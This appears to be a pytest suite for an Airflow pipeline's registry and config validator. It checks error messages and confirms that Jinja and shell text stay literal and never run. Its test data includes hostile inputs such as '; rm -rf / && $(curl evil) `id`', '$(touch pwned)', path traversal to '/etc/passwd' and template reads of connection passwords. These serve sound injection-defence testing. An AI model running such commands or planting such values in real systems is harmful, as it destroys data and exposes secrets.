"""Bad registry and config input: every case is one clear ``file:LINE: column: message`` problem,
hides no other row, and the good rows still become DAGs (checked in a real DagBag too).

Jinja and shell text is kept literally, also through a real ``dag.test()`` run; credentials in a
source URI are refused with a pointer to Airflow connections and never printed.
"""

from __future__ import annotations

import csv
import io
import os

import pytest

from pipelines.project.config import load_project
from pipelines.project.registry import COLUMNS, parse_registry
from tests.conftest import REPO

HEADER = list(COLUMNS)
GOOD = {
    "dataset": "good_a",
    "source": "data/ledger_{ds}.csv",
    "format": "csv",
    "primary_key": "entry_id",
    "incremental_field": "updated_at",
    "partition_field": "booked_on",
    "ingestion": "incremental",
    "schedule": "@daily",
    "start_date": "2024-01-01",
}
SECRET = "wJalrXUtnFEMI-K7MDENG"

# (case id, overrides of a good row, column, start of the message)
ROW_CASES = [
    ("empty-dataset", {"dataset": ""}, "dataset", "required value is empty"),
    ("blank-dataset", {"dataset": "   "}, "dataset", "required value is empty"),
    ("empty-source", {"source": ""}, "source", "required value is empty"),
    ("empty-primary-key", {"primary_key": ""}, "primary_key", "required value is empty"),
    ("empty-ingestion", {"ingestion": ""}, "ingestion", "required value is empty"),
    ("empty-start-date", {"start_date": ""}, "start_date", "required value is empty"),
    (
        "unknown-ingestion",
        {"ingestion": "incremntal"},
        "ingestion",
        "'incremntal' is not one of: full, incremental",
    ),
    (
        "incremental-no-field",
        {"incremental_field": ""},
        "incremental_field",
        "required when ingestion is incremental",
    ),
    (
        "incremental-no-partition",
        {"partition_field": ""},
        "partition_field",
        "required when ingestion is incremental",
    ),
    (
        "pk-twice",
        {"primary_key": "entry_id|entry_id"},
        "primary_key",
        "column 'entry_id' listed twice",
    ),
    (
        "pk-bad-column",
        {"primary_key": "id;drop"},
        "primary_key",
        "'id;drop' is not a valid column name",
    ),
    (
        "incremental-two-columns",
        {"incremental_field": "a|b"},
        "incremental_field",
        "takes one column",
    ),
    (
        "duplicate-name",
        {"dataset": "good_a"},
        "dataset",
        "duplicate dataset 'good_a' (first on line 2)",
    ),
    (
        "duplicate-after-casefold",
        {"dataset": "Good_A"},
        "dataset",
        "duplicate dataset 'Good_A' (same as 'good_a' ignoring case) (first on line 2)",
    ),
    ("name-dotdot", {"dataset": "../x"}, "dataset", "'../x' must match"),
    ("name-slash", {"dataset": "a/b"}, "dataset", "'a/b' must match"),
    ("name-absolute", {"dataset": "/etc/passwd"}, "dataset", "'/etc/passwd' must match"),
    ("name-nul", {"dataset": "a\x00b"}, "dataset", "contains a NUL character"),
    ("name-64-chars", {"dataset": "a" * 64}, "dataset", f"'{'a' * 64}' must match"),
    ("name-unicode", {"dataset": "ördes"}, "dataset", "'ördes' must match"),
    ("name-dot", {"dataset": "."}, "dataset", "'.' must match"),
    (
        "jinja-in-source",
        {"source": "data/{{ conn.my_db.password }}.csv"},
        "source",
        "only the placeholders {ds} and {ds_nodash} are allowed",
    ),
    (
        "jinja-block-in-source",
        {"source": "data/{% for x in y %}.csv"},
        "source",
        "only the placeholders {ds} and {ds_nodash} are allowed",
    ),
    (
        "credentials-in-s3-uri",
        {"source": f"s3://AKIAEXAMPLE:{SECRET}@bucket/x.csv"},
        "source",
        "credentials must not be written in the URI; put them in an Airflow connection",
    ),
    (
        "credentials-no-extension",
        {"source": f"s3://AKIAEXAMPLE:{SECRET}@bucket/x", "format": ""},
        "source",
        "credentials must not be written in the URI; put them in an Airflow connection",
    ),
    (
        "password-in-query",
        {"source": f"s3://bucket/x.csv?password={SECRET}", "format": ""},
        "source",
        "the URI query carries a secret; use an Airflow connection instead",
    ),
    (
        "token-in-query",
        {"source": f"s3://bucket/x.csv?x=1&token={SECRET}"},
        "source",
        "the URI query carries a secret; use an Airflow connection instead",
    ),
    (
        "credentials-https",
        {"source": f"https://user:{SECRET}@host/x.csv"},
        "source",
        "scheme 'https' is not supported",
    ),
    ("absolute-source", {"source": "/etc/passwd.csv"}, "source", "absolute paths are not allowed"),
    (
        "source-leaves-include",
        {"source": "../../secrets.csv"},
        "source",
        "relative source must stay inside include/",
    ),
    ("ftp-source", {"source": "ftp://host/x.csv"}, "source", "scheme 'ftp' is not supported"),
    ("unknown-format", {"format": "xlsx"}, "format", "'xlsx' is not one of: csv, jsonl, parquet"),
    (
        "format-not-inferable",
        {"source": "data/x.dat", "format": ""},
        "format",
        "cannot tell the format from 'data/x.dat'",
    ),
    (
        "cron-bad-minute",
        {"schedule": "61 * * * *"},
        "schedule",
        "'61 * * * *' is not a valid 5-field cron expression or preset",
    ),
    (
        "cron-six-fields",
        {"schedule": "0 0 * * * *"},
        "schedule",
        "'0 0 * * * *' is not a valid 5-field cron expression or preset",
    ),
    ("cron-words", {"schedule": "every day"}, "schedule", "'every day' is not a valid"),
    ("preset-misspelt", {"schedule": "@daly"}, "schedule", "'@daly' is not a preset"),
    (
        "schedule-hourly",
        {"schedule": "@hourly"},
        "schedule",
        "'0 * * * *' runs more than once a day",
    ),
    (
        "start-date-us-format",
        {"start_date": "01/02/2024"},
        "start_date",
        "'01/02/2024' is not a date in the form YYYY-MM-DD",
    ),
    (
        "start-date-impossible",
        {"start_date": "2024-13-01"},
        "start_date",
        "'2024-13-01' is not a real date: there is no month 13",
    ),
    (
        "start-date-with-time",
        {"start_date": "2024-01-01T00:00"},
        "start_date",
        "'2024-01-01T00:00' is not a date in the form YYYY-MM-DD",
    ),
    (
        "start-date-future",
        {"start_date": "2999-01-01"},
        "start_date",
        "2999-01-01 is in the future",
    ),
    (
        "max-active-runs-zero",
        {"max_active_runs": "0"},
        "max_active_runs",
        "'0' must be a whole number from 1 to 1000",
    ),
    (
        "max-active-runs-text",
        {"max_active_runs": "$(nproc)"},
        "max_active_runs",
        "'$(nproc)' must be a whole number from 1 to 1000",
    ),
    (
        "max-drop-pct-over-100",
        {"max_drop_pct": "150"},
        "max_drop_pct",
        "'150' must be a number from 0 to 100",
    ),
    (
        "on-schema-change-unknown",
        {"on_schema_change": "ignore"},
        "on_schema_change",
        "'ignore' is not one of: append, fail",
    ),
    ("tag-too-long", {"tags": "x" * 101}, "tags", "a tag is longer than 100 characters"),
]
# Values a registry may hold that must be taken literally: accepted, never rendered or run.
LITERAL_CASES = [
    ("jinja-description", "description", "{{ conn.my_db.password }}"),
    ("jinja-block-owner", "owner", "{% for x in range(3) %}x{% endfor %}"),
    ("shell-description", "description", "; rm -rf / && $(curl evil) `id`"),
    ("shell-tags", "tags", "$(whoami)|`id`|{{ var.value.x }}"),
    ("shell-source-path", "source", "data/it $(touch pwned) `id`;x_{ds}.csv"),
]


def to_csv(*rows: dict) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=HEADER, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({**GOOD, **row})
    return out.getvalue()


def sandwich(bad: dict) -> str:
    """Header, good_a on line 2, the case on line 3, good_b on line 4."""
    return to_csv({}, {"dataset": "bad_row", **bad}, {"dataset": "good_b"})


@pytest.mark.parametrize(
    ("over", "column", "message"), [c[1:] for c in ROW_CASES], ids=[c[0] for c in ROW_CASES]
)
def test_bad_row_is_reported_and_hides_no_other_row(case, over, column, message):
    registry = parse_registry(sandwich(over))
    found = [str(p) for p in registry.problems]
    assert any(f.startswith(f"registry.csv:3: {column}: {message}") for f in found), found
    assert all(f.startswith("registry.csv:3: ") for f in found), found
    assert registry.names == ["good_a", "good_b"]
    assert not any(SECRET in f for f in found)


@pytest.mark.parametrize(
    ("column", "value"), [c[1:] for c in LITERAL_CASES], ids=[c[0] for c in LITERAL_CASES]
)
def test_jinja_and_shell_text_is_accepted_literally(case, column, value):
    registry = parse_registry(to_csv({"dataset": "odd", column: value}))
    assert registry.problems == ()
    (dataset,) = registry.datasets
    assert dataset.row[column] == value
    if column == "tags":
        assert "|".join(dataset.tags) == value


HEAD = ",".join(HEADER)
ROW = to_csv({}).splitlines()[1]
ROW_B = to_csv({"dataset": "good_b"}).splitlines()[1]
FILE_CASES = [  # (case id, file bytes, expected problems, expected good datasets)
    (
        "bom-and-crlf",
        ("\ufeff" + HEAD + "\r\n" + ROW + "\r\n" + ROW_B + "\r\n").encode(),
        [],
        ["good_a", "good_b"],
    ),
    (
        "bom-crlf-bad-row-keeps-its-line",
        ("\ufeff" + HEAD + "\r\n" + ROW.replace("@daily", "@x") + "\r\n" + ROW_B + "\r\n").encode(),
        ["registry.csv:2: schedule: '@x' is not a preset"],
        ["good_b"],
    ),
    (
        "unclosed-quote",
        f'{HEAD}\n{ROW}\nbad,"data/x.csv,csv\n{ROW_B}\n'.encode(),
        ["registry.csv:3: csv: malformed CSV: unexpected end of data"],
        ["good_a", "good_b"],
    ),
    (
        "stray-quote",
        f'{HEAD}\n{ROW}\nbad,da"ta"x,csv\n{ROW_B}\n'.encode(),
        [f"registry.csv:3: row: has 3 fields, header has {len(HEADER)}"],
        ["good_a", "good_b"],
    ),
    (
        "quote-then-text",
        f'{HEAD}\n{ROW}\n"bad"x,y\n{ROW_B}\n'.encode(),
        ["registry.csv:3: csv: malformed CSV: ',' expected after '\"'"],
        ["good_a", "good_b"],
    ),
    (
        "too-many-fields",
        f"{HEAD}\n{ROW}\n{ROW_B.replace('good_b', 'c')},extra\n{ROW_B}\n".encode(),
        [f"registry.csv:3: row: has {len(HEADER) + 1} fields, header has {len(HEADER)}"],
        ["good_a", "good_b"],
    ),
    (
        "too-few-fields",
        f"{HEAD}\n{ROW}\nc,data/x.csv,csv\n{ROW_B}\n".encode(),
        [f"registry.csv:3: row: has 3 fields, header has {len(HEADER)}"],
        ["good_a", "good_b"],
    ),
    ("empty-file", b"", ["registry.csv:1: header: file is empty: a header row is required"], []),
    (
        "whitespace-only",
        b"\n  \n\n",
        ["registry.csv:1: header: file is empty: a header row is required"],
        [],
    ),
    ("header-only", f"{HEAD}\n".encode(), [], []),
    (
        "not-utf8",
        f"{HEAD}\n{ROW}\n".encode() + b"caf\xe9,x\n",
        ["registry.csv:3: encoding: not valid UTF-8"],
        [],
    ),
    (
        "unknown-header-column",
        f"{HEAD},colour\n{ROW},\n{ROW_B},red\n".encode(),
        [
            "registry.csv:1: colour: unknown column; known: dataset, source",
            "registry.csv:3: colour: value in a column registry.csv does not know",
        ],
        ["good_a"],
    ),
    (
        "header-after-comment",
        f"# registry\n{HEAD},colour\n{ROW},\n".encode(),
        ["registry.csv:2: colour: unknown column"],
        ["good_a"],
    ),
    (
        "missing-required-header",
        f"{HEAD.replace('primary_key,', '')}\n".encode(),
        ["registry.csv:1: primary_key: required column missing from the header"],
        [],
    ),
    (
        "header-column-twice",
        f"{HEAD},owner\n".encode(),
        ["registry.csv:1: owner: column appears twice in the header"],
        [],
    ),
]


@pytest.mark.parametrize(
    ("raw", "expected", "names"), [c[1:] for c in FILE_CASES], ids=[c[0] for c in FILE_CASES]
)
def test_malformed_file_is_reported_and_good_rows_survive(case, raw, expected, names):
    registry = parse_registry(raw)
    found = [str(p) for p in registry.problems]
    assert len(found) == len(expected), found
    for want, got in zip(expected, found, strict=True):
        assert got.startswith(want), found
    assert registry.names == names


AGG_GOOD = "- {name: good_agg, dataset: good_a, group_by: [kind], metrics: {n: count}}\n"
AGG_CASES = [  # (case id, YAML entry, expected problem)
    (
        "unknown-dataset",
        "- {name: a1, dataset: nope, metrics: {n: count}}",
        "aggregates.yaml: a1: dataset 'nope' is not a valid dataset of registry.csv",
    ),
    (
        "unknown-function",
        "- {name: a2, dataset: good_a, metrics: {m: 'median:amount'}}",
        "aggregates.yaml: a2: metric m: 'median:amount': function must be one of: count, sum",
    ),
    (
        "function-without-column",
        "- {name: a3, dataset: good_a, metrics: {m: sum}}",
        "aggregates.yaml: a3: metric m: 'sum' needs a column, as 'sum:column'",
    ),
    (
        "count-with-column",
        "- {name: a4, dataset: good_a, metrics: {m: 'count:x'}}",
        "aggregates.yaml: a4: metric m: 'count' takes no column",
    ),
    (
        "bad-group-by",
        "- {name: a5, dataset: good_a, group_by: ['a;b'], metrics: {n: count}}",
        "aggregates.yaml: a5: group_by must be a list of column names",
    ),
    (
        "jinja-in-column",
        "- {name: a6, dataset: good_a, metrics: {m: 'sum:{{ x }}'}}",
        "aggregates.yaml: a6: metric m: '{{ x }}' is not a valid column name",
    ),
    (
        "name-taken-by-dataset",
        "- {name: good_a, dataset: good_a, metrics: {n: count}}",
        "aggregates.yaml: good_a: name 'good_a' is already used by a dataset",
    ),
    (
        "unknown-key",
        "- {name: a7, dataset: good_a, metrics: {n: count}, where: 'x > 1'}",
        "aggregates.yaml: a7: unknown keys: where",
    ),
    (
        "name-leaves-lake",
        "- {name: ../a8, dataset: good_a, metrics: {n: count}}",
        "aggregates.yaml: ../a8: name '../a8' must match",
    ),
]


@pytest.mark.parametrize(
    ("entry", "expected"), [c[1:] for c in AGG_CASES], ids=[c[0] for c in AGG_CASES]
)
def test_bad_aggregate_is_reported_and_others_load(case, tmp_path, entry, expected):
    include = tmp_path / "include"
    include.mkdir()
    (include / "registry.csv").write_text(to_csv({}))
    (include / "aggregates.yaml").write_text(AGG_GOOD + entry + "\n")
    project = load_project(include)
    found = [str(p) for p in project.problems]
    assert len(found) >= 1 and all(f.startswith(expected.split(": ")[0]) for f in found)
    assert any(f.startswith(expected) for f in found), found
    assert [a.name for a in project.aggregates] == ["good_agg"]


def test_aggregate_of_a_column_no_delivery_has_yet_reads_it_as_null(case, fast_dir):
    """Columns are only known once data arrives (a later delivery may bring one): the run
    builds every aggregate, the one over the missing column with null for it; `validate
    --sources` is where a misspelt column is named."""
    from tests.reliability import workload

    home = fast_dir / "home"
    workload.make_project(home)
    with open(home / "include" / "aggregates.yaml", "a") as fh:
        fh.write("- {name: by_colour, dataset: ledger, group_by: [colour], metrics: {n: count}}\n")
    env = workload.Env(str(home), str(fast_dir / "lake"))
    workload.run(env, ["ledger"], workload.DAYS[:1])
    by_colour = workload.read_table(env, "by_colour", "aggregated")
    assert by_colour["colour"].isna().all() and by_colour["n"].sum() > 0
    assert not workload.read_table(env, "ledger_by_kind", "aggregated").empty


def all_row_cases() -> tuple[str, dict[int, tuple[str, str]]]:
    """One registry holding every bad row between good ones; expected problem per line."""
    rows, expected = [{}], {}
    for n, (_, over, column, message) in enumerate(ROW_CASES):
        rows += [{"dataset": f"bad_{n}", **over}, {"dataset": f"good_{n}"}]
        expected[len(rows)] = (column, message)  # header is line 1, rows[0] line 2
    return to_csv(*rows), expected


def test_dagbag_builds_exactly_the_good_rows(case, tmp_path, monkeypatch, capfd, caplog):
    """A real DagBag over the dags folder: every good row is a DAG, no import error, every bad
    row reported once on its own line, no secret in the log."""
    from airflow.dag_processing.dagbag import DagBag

    text, expected = all_row_cases()
    include = tmp_path / "include"
    include.mkdir()
    (include / "registry.csv").write_text(text)
    monkeypatch.setenv("PIPELINES_HOME", str(tmp_path))
    bag = DagBag(dag_folder=str(REPO / "dags"))
    assert bag.import_errors == {}
    good = ["local__good_a"] + [f"local__good_{n}" for n in range(len(ROW_CASES))]
    assert sorted(bag.dag_ids) == sorted(good)
    problems = load_project(include).problems
    for line, (column, message) in expected.items():
        assert any(
            p.line == line and p.column == column and p.message.startswith(message)
            for p in problems
        ), (line, column, message)
    assert {p.line for p in problems} == set(expected)
    logged = "".join(capfd.readouterr()) + caplog.text  # where it goes depends on set-up
    assert SECRET not in logged and "skipped: registry.csv:" in logged


ODD = {
    "dataset": "odd",
    "source": "data/it $(touch pwned) `id`;x_{ds}.csv",
    "owner": "{{ conn.db.password }}",
    "description": "{% for x in range(3) %}x{% endfor %} $(id)",
    "tags": "`id`|{{ ds }}",
}


def odd_home(base):
    """The generated project whose only dataset is ODD (its source file named with shell text)."""
    from tests.reliability import workload

    home = workload.make_project(base / "home")
    src = home / "include" / "data" / "ledger_2024-01-01.csv"
    (home / "include" / ODD["source"].format(ds="2024-01-01")).write_bytes(src.read_bytes())
    (home / "include" / "registry.csv").write_text(to_csv(ODD))
    (home / "include" / "aggregates.yaml").write_text("[]\n")
    return home


def test_templated_text_stays_literal_through_a_real_run(case, airflow_db, fast_dir, monkeypatch):
    """Jinja and shell text in the registry and in the data go through ``dag.test()`` untouched:
    nothing rendered, nothing executed, values byte-identical in cleaned."""
    from airflow.models.dag import DagModel
    from airflow.utils.session import create_session

    from pipelines.runs.local import load_dag, run_dag
    from tests.reliability import workload

    home = odd_home(fast_dir)
    monkeypatch.setenv("PIPELINES_HOME", str(home))
    monkeypatch.setenv("PIPELINES_LAKE", str(fast_dir / "lake"))
    monkeypatch.chdir(fast_dir)
    outcome = run_dag("local__odd", "2024-01-01", full_airflow=True)  # DagModel: the database's
    assert outcome.ok, outcome.error
    dag = load_dag("local__odd")
    assert dag.description == ODD["description"]
    assert {t.owner for t in dag.tasks} == {ODD["owner"]}
    assert all(not t.template_fields for t in dag.tasks)
    with create_session() as session:
        assert session.get(DagModel, "local__odd").owners == ODD["owner"]
    cleaned = workload.read_table(workload.Env(str(home), str(fast_dir / "lake")), "odd", "cleaned")
    assert set(workload.HOSTILE) <= set(cleaned["memo"].dropna())  # "{{ ds }}", ... byte for byte
    assert not any("pwned" in files for _, _, files in os.walk(fast_dir))  # nothing ran
    assert not (REPO / "pwned").exists()
